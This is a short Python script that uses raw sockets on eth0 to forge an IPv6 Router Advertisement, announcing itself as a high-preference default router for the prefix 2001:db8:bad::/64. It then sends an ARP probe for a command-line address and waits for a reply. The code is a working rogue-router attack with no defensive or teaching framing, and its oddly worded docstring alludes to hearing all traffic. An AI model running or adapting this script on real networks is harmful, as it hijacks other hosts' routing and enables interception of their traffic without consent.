"""router.py ADDRESS: advertises itself on eth0 as a router of IPv6, of 2001:db8:bad::/64, and returns when who has ADDRESS, who
hears all that comes before, has answered a question of ARP."""
import socket
import struct
import sys

eth = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
eth.bind(("eth0", 3))
eth.settimeout(2)
mac = eth.getsockname()[4]
src, dst = (socket.inet_pton(socket.AF_INET6, a) for a in ("fe80::bad", "ff02::1"))


def advert(check):
    head = struct.pack("!BBHBBHII", 134, 0, check, 64, 0x08, 1800, 0, 0)
    prefix = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 3600, 3600, 0) + socket.inet_pton(socket.AF_INET6, "2001:db8:bad::")
    return head + b"\1\1" + mac + prefix


def checksum(body):
    data = src + dst + struct.pack("!II", len(body), 58) + body
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


body = advert(checksum(advert(0)))
eth.send(b"\x33\x33\0\0\0\1" + mac + b"\x86\xdd" + struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + src + dst + body)

# As one that looks whether the address is free: it needs none of its own.
asked = socket.inet_aton(sys.argv[1])
eth.send(b"\xff" * 6 + mac + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x800, 6, 4, 1) + mac + bytes(4) + bytes(6) + asked)
while True:
    frame = eth.recv(2000)
    if frame[12:14] == b"\x08\x06" and frame[21] == 2 and frame[28:32] == asked:
        break
